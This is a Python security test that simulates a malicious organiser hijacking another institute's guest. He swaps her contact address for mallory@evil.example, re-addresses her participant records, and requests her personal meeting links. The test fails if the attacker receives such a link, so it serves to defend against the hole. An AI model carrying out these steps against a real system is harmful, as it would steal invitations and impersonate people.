"""An institute's organiser has another institute's guest of a closed meeting mailed to himself.

He adds an address of his own to the guest and drops the real one; then he proposes to do so at a
meeting of his, names the guest for a delegation there, and asks for "my links".
"""

from tests.attack.ground import Broken, Browser, Ground

GUEST, MINE = "aye@yangon.example", "mallory@evil.example"


def attack(ground: Ground) -> None:
    ground.start()
    secretariat = ground.secretariat()
    bangkok = ground.institute(secretariat, "Institute of Bangkok", "TH", "Asia/Bangkok")
    mallory = ground.organiser_of(secretariat, bangkok, "mallory@bangkok.example")
    closed = a_guest_of_a_closed_meeting(ground, secretariat)

    take_over(ground, mallory)
    own = ground.draft(mallory, bangkok, visibility="public")
    mallory.post(f"/meetings/{own}/invitations", {"pasted": GUEST, "role": "delegate"})
    take_over(ground, mallory)
    readdress(ground, mallory, own)
    ground.stranger().post("/links", {"address": MINE})

    caught = [mail for mail in ground.deliver() if mail.recipient == MINE]
    if any("/r/" in mail.text() for mail in caught):
        raise Broken(f"a foreign organiser is mailed the personal link of {closed}")


def a_guest_of_a_closed_meeting(ground: Ground, secretariat: Browser) -> str:
    yangon = ground.institute(secretariat, "Institute of Yangon", "MM", "Asia/Yangon")
    khin = ground.organiser_of(secretariat, yangon, "khin@yangon.example")
    values = {"full_name": "Aye Aye", "institute": "Institute of Yangon", "country_code": "MM"}
    khin.post("/people", values | {"zone": "Asia/Yangon", "language": "en", "address": GUEST})
    ref = ground.draft(khin, yangon)
    khin.post(f"/meetings/{ref}/invitations", {"pasted": GUEST, "role": "delegate"})
    khin.post(f"/meetings/{ref}/publication")
    ground.deliver()
    if not any("/r/" in mail.text() for mail in ground.smtp.to(GUEST)):
        raise RuntimeError("the guest was not invited")
    return ref


def take_over(ground: Ground, mallory: Browser) -> None:
    person, contact = guest(ground)
    mallory.post(f"/people/{person}/contacts", {"address": MINE, "reader_name": ""})
    mallory.post(f"/people/{person}/contacts/{contact}/end")


def readdress(ground: Ground, mallory: Browser, ref: str) -> None:
    person, _contact = guest(ground)
    places = ground.sql(
        "SELECT participants.id FROM participants JOIN meetings ON meetings.id = meeting_id"
        " WHERE person_id = :person AND ref = :ref",
        person=person,
        ref=ref,
    )
    for (place,) in places:
        page = f"/meetings/{ref}/participants/{place}/address"
        mallory.post(page, {"address": MINE, "reader_name": ""})
    for (contact,) in ground.sql("SELECT id FROM contacts WHERE address = :mine", mine=MINE):
        for (place,) in places:
            mallory.post(f"/meetings/{ref}/participants/{place}/address", {"contact": contact})


def guest(ground: Ground) -> tuple[int, int]:
    """The ids of the person and of the real address; of the latter 0 once it is gone."""
    [(person,)] = ground.sql("SELECT id FROM people WHERE full_name = 'Aye Aye'")
    known = ground.sql("SELECT id FROM contacts WHERE address = :address", address=GUEST)
    return person, known[0][0] if known else 0
